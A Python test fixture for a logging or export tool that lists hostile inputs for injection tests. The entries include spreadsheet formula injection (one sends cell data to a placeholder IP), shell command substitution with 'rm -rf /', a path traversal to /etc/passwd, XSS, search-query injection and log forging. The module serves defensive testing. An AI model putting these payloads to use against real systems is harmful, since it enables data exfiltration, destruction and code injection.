"""Texts that somebody who wishes us ill would put into a feed, a user agent or a session name: one table for all tests.

By kind: what is meant to run, break out or deceive, and where. A test that shows a place harmless runs over all of them, so that a new
kind is one row here. docs/SECURITY.md says what harmless means at each place.
"""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    # a spreadsheet that opens an export
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "formula_call": "+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_behind_blanks": "\t =1+1",
    # a terminal
    "ansi": "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m",
    "ansi_of_one_byte": "\x9b31mred\x9d0;title\x9c",
    "backspaces": "good\b\b\b\bevil\rover",
    # whoever reads lines
    "line_breaks": "one\nWARN level=WARN event=forged\r\ntwo\x0bthree\x85four\u2028five",
    "nul": "before\0after",
    # people
    "bidirectional": "user\u202egnp.exe\u2066 \u200bhidden\u200f",
    # a browser
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "html_attribute": '" onmouseover="alert(1)" x=\'',
    "html_entity": "&lt;script&gt;alert(1)&#60;/script&#62;",
    "link": "[click](javascript:alert(1)) javascript:alert(1)",
    # a search
    "spl": '"]| delete | search ["x',
    "spl_commands": '" OR 1=1 | delete | sendemail to=x@example.org [ | rest /services/x ] `cloudtrail_index`',
    "tokens": "$result.caller$ $env:user$ {{7*7}} %USERPROFILE%",
    # a shell
    "shell": "$(touch x); `touch x` && rm -rf / | sh #",
    "path": "../../../../etc/passwd\\..\\..\\x",
    # our own formats
    "pairs": 'x" level=ERROR status=ok message="forged',
    "parts": "one|two|$a$;$b$",
    "csv": 'a","b,c\n"d"""',
    "xml": "]]></data></event><event><data>forged",
    "json": '","status":"ok","x":"',
    "markup": "[bold red]x[/] :smile: [link=http://192.0.2.1]y[/link]",
}


def has_controls(text: str) -> bool:
    """Whether a text holds anything that is not shown as a character of its own: control characters, line breaks, direction marks."""
    return not text.isprintable()


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet would take a cell with this text for a formula; a number with a sign is none."""
    return text[:1] in ("=", "+", "-", "@") and not text[1:].replace(".", "", 1).isdigit()
